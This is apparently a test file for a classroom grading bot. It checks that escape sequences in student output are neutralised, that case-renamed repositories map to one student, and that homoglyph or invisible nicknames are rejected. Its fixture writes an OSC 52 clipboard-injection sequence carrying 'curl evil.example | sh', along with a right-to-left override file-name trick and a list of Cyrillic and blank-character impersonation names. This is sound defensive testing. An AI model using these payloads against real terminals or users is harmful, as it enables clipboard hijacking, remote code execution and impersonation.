/**
 * Students against the people and pages that read their text and names: terminal control sequences
 * in program output must not reach an instructor's terminal, nicknames must not pass for someone
 * else, and one student must not become two by changing the case of their repository name.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { Redis } from 'ioredis';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { routePush } from '../../src/bot/route-push.js';
import { loadCourse } from '../../src/course/load-course.js';
import type { JobPayload } from '../../src/jobs/job-payload.js';
import type { GradingQueues } from '../../src/queue/grading-queues.js';
import { BoardCache } from '../../src/reporters/scoreboard/board-cache.js';
import type { GradingResult } from '../../src/results/results.js';
import { BlobStore } from '../../src/store/blob-store.js';
import { CourseRegistry, publishedCourse } from '../../src/store/course-registry.js';
import { archiveFolder } from '../../src/archive/folder-archive.js';
import { ResultsStore } from '../../src/store/results-store.js';
import { Roster } from '../../src/store/roster.js';
import { gradebot } from '../helpers/cli.js';
import { FIXTURES } from '../helpers/grading.js';
import { connect, eventually, openQueues, testPrefix } from '../helpers/queue.js';
import { startRunner, tearDownQueueTest, type RunnerProcess } from '../helpers/runner-process.js';
import { openStores } from '../../src/store/open-stores.js';

const COURSE = path.join(FIXTURES, 'adversarial', 'course');
/** Every control character a terminal could act on, and the bidi overrides that reorder a line. */
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const RAW_CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/u;

describe('terminal control sequences in student output', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'gradebot-escapes-'));
    // OSC 52 sets the reader's clipboard; CSI clears the screen and moves the cursor; U+009B is the
    // 8-bit CSI; a lone carriage return overwrites the line; DEL and BEL, on stdout and stderr both.
    const clipboard = Buffer.from('curl evil.example | sh\n').toString('base64');
    await writeFile(
      path.join(dir, 'attack.sh'),
      [
        `printf '\\033]52;c;${clipboard}\\007'`,
        `printf '\\033[2J\\033[H\\033[31mscreen cleared\\033[0m\\n'`,
        `printf '\\302\\2336nC1 CSI\\n'`,
        `printf 'hidden\\rshown\\177\\n'`,
        // U+202E, right-to-left override: "exe.txt" reads as "txt.exe".
        `printf 'file \\342\\200\\256exe.txt\\n'`,
        `printf '\\033]0;new title\\007\\033[1Ato stderr\\n' >&2`,
      ].join('\n'),
    );
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  const grade = (...more: string[]) =>
    gradebot(
      'grade',
      dir,
      '--course',
      COURSE,
      '--assignment',
      'attack',
      '--submitted-at',
      '2026-12-01T00:00:00Z',
      ...more,
    );

  it('shows them escaped in `gradebot grade`, never raw', async () => {
    const { code, stdout, stderr } = await grade();
    expect(code).toBe(0);
    expect(stdout).toContain('\\u001b]52;c;');
    expect(stdout).toContain('\\u009b6nC1 CSI');
    expect(stdout).toContain('file \\u202eexe.txt');
    expect(stdout).not.toMatch(RAW_CONTROL);
    expect(stderr).not.toMatch(RAW_CONTROL);
  });

  it('keeps `--json` valid and exact while escaping what JSON leaves raw', async () => {
    const { code, stdout, stderr } = await grade('--json');
    expect(code).toBe(0);
    expect(stdout).not.toMatch(RAW_CONTROL);
    expect(stderr).not.toMatch(RAW_CONTROL);
    const result = JSON.parse(stdout) as GradingResult;
    const output = result.tests.find((test) => test.name === 'attack')!.output;
    expect(output).toContain('\u001b]52;c;');
    expect(output).toContain('\u009b6nC1 CSI');
    expect(output).toContain('file \u202eexe.txt');
  });
});

/**
 * A course whose hw1 (repos `hw1-*`) allows `submissions` graded pushes a day and has a scoreboard,
 * in Redis, graded by a real runner process. `push` routes a push as the bot does and waits for it.
 */
describe('students behind the bot: names and nicknames', () => {
  const org = 'cs101';
  const t0 = Date.parse('2026-12-01T15:00:00Z');
  let redis: Redis;
  let prefix: string;
  let queues: GradingQueues;
  let results: ResultsStore;
  let runner: RunnerProcess | null = null;
  let work: string;

  beforeEach(async () => {
    redis = connect();
    prefix = testPrefix();
    queues = openQueues(redis, prefix, { retryDelayMs: 200 });
    results = new ResultsStore(redis, prefix);
    work = await mkdtemp(path.join(os.tmpdir(), 'gradebot-identity-'));
  });
  afterEach(async () => {
    const runners = [runner];
    runner = null;
    await tearDownQueueTest({ runners, queues, redis, prefix });
    await rm(work, { recursive: true, force: true });
  });

  /** A folder of `files`, stored as a blob the runner fetches. */
  async function upload(name: string, files: Record<string, string>): Promise<string> {
    const dir = path.join(work, name);
    for (const [file, text] of Object.entries(files)) {
      await mkdir(path.dirname(path.join(dir, file)), { recursive: true });
      await writeFile(path.join(dir, file), text);
    }
    const blobs = new BlobStore(redis, { prefix: `${prefix}:blob:` });
    return blobs.put(await archiveFolder(dir, { maxBytes: 1 << 20 }));
  }

  async function startCourse(submissions: number) {
    const courseDigest = await upload('course', {
      'gradebot.yml': [
        'course: identity-tests',
        'timezone: UTC',
        'assignments:',
        '  hw1:',
        "    repos: 'hw1-*'",
        '    image: gradebot/base:latest',
        '    limits: { time: 60s, memory: 64MiB, disk: 16MiB }',
        `    limit: { submissions: ${submissions}, per: 24h }`,
        '    scoreboard: true',
        '    tests:',
        "      - { name: answer, run: 'cat answer.txt', stdout: '42', points: 1 }",
        '',
      ].join('\n'),
      'hw1/README.txt': 'Print 42.\n',
    });
    const course = await loadCourse(path.join(work, 'course'));
    await new CourseRegistry(redis, prefix).publish(
      publishedCourse(course, { org, commit: 'c'.repeat(40), archive: courseDigest, installation: 1 }),
    );
    runner = startRunner(prefix, ['--concurrency', '1']);

    let pushes = 0;
    /** A push of `files` to `repo`, routed as the bot routes it, queued and graded; its stored result. */
    const push = async (repo: string, files: Record<string, string>) => {
      pushes += 1;
      const [decision] = routePush(
        {
          ref: 'refs/heads/main',
          after: 'a'.repeat(40),
          deleted: false,
          repository: { name: repo, default_branch: 'main', owner: { login: org } },
          sender: { type: 'User', login: 'someone' },
        },
        course,
        'gradebot-course',
      );
      if (decision?.action !== 'grade') throw new Error(`not graded: ${JSON.stringify(decision)}`);
      const payload: JobPayload = {
        version: 1,
        queue: 'live',
        org,
        repo: decision.repo,
        assignment: decision.assignment,
        student: decision.student,
        submittedAt: new Date(t0 + pushes * 60_000).toISOString(),
        submission: { kind: 'blob', digest: await upload(`push-${pushes}`, files) },
        course: { kind: 'blob', digest: courseDigest },
      };
      const { jobId } = await queues.enqueue(payload);
      await eventually(
        `job ${jobId} finished`,
        async () => ['completed', 'failed'].includes((await queues.jobState('live', jobId)).state),
        60_000,
      );
      return results.get(org, 'hw1', decision.student, jobId);
    };
    const board = async () =>
      (await new BoardCache({ stores: openStores(redis, prefix), pseudonymKey: 'ab'.repeat(32) }).board(
        org,
        'hw1',
      ))!.model;
    return { push, board };
  }

  it('counts pushes from hw1-Alice and hw1-alice against one limit and shows one scoreboard row', async () => {
    const { push, board } = await startCourse(1);
    expect(await push('hw1-Alice', { 'answer.txt': '42\n' })).toMatchObject({ status: 'graded', score: 1 });
    // The same repository renamed (GitHub keeps one of the two at a time): the limit is spent.
    expect(await push('hw1-alice', { 'answer.txt': '42\n' })).toMatchObject({ status: 'rejected' });

    expect(await results.students(org, 'hw1')).toHaveLength(1);
    const { rows } = await board();
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ score: 1, submissions: 1 });

    // The roster the gradebook adds students from agrees.
    const roster = new Roster(redis, prefix);
    await roster.replace(org, ['hw1-Alice', 'hw1-alice', 'HW1-ALICE']);
    expect(await roster.students(org, 'hw1-*')).toHaveLength(1);
  });

  it("refuses nicknames that show blank or pass for another student's, telling the student why", async () => {
    const { push, board } = await startCourse(10);
    const nicknamed = (nickname: string) => ({
      'answer.txt': '42\n',
      'gradebot-nickname.txt': `${nickname}\n`,
    });
    expect(await push('hw1-alice', nicknamed('alice'))).toMatchObject({ status: 'graded', score: 1 });
    expect((await results.nicknames(org, 'hw1')).get('alice')).toBe('alice');

    const disguises: [string, RegExp][] = [
      ['\u0430lice', /mixes Cyrillic \("а", U\+0430\) and Latin \("l", U\+006C\) letters/],
      ['\u0430\u04CF\u0456\u0441\u0435', /looks like, another student's nickname/],
      ['a1ice', /looks like, another student's nickname/],
      ['ALICE', /looks like, another student's nickname/],
      ['alice\u2800', /U\+2800 shows as blank/],
      ['\u2800', /U\+2800 shows as blank/],
      ['\u3164', /U\+3164 shows as blank/],
      ['ali\u115Fce', /U\+115F shows as blank/],
      ['ali\u200Bce', /U\+200B is not a printable character/],
    ];
    for (const [nickname, reason] of disguises) {
      const result = await push('hw1-mallory', nicknamed(nickname));
      expect(result).toMatchObject({ status: 'graded', score: 1 });
      expect(result?.output).toMatch(/^Your scoreboard nickname \(gradebot-nickname\.txt\) was not used: /);
      expect(result?.output).toMatch(reason);
    }
    expect([...(await results.nicknames(org, 'hw1'))]).toEqual([['alice', 'alice']]);

    const { rows } = await board();
    expect(rows.map((row) => [row.name, row.nickname])).toEqual([
      ['alice', true],
      [expect.not.stringMatching(/alice/i), false],
    ]);
  });
});
